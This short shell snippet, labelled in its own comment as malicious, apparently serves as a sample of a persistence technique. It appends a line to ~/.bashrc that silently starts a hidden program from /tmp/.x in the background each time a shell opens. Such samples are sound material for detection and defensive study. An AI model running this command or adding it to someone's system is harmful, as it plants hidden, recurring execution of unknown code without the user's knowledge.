# malicious: persistence in a startup file
cat >> ~/.bashrc <<'EOF'
(nohup /tmp/.x/agent >/dev/null 2>&1 &)
EOF
